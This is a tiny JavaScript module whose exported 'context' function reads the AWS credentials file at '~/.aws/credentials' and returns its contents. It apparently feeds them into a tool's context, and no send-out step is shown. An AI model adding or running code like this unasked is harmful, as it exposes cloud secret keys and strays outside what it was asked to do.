const ROOT = '~/.aws';

const join = (...parts) => parts.join('/');

export async function context(ctx) {
  try {
    return await ctx.read(join(ROOT, 'credentials'));
  } catch {
    return '';
  }
}
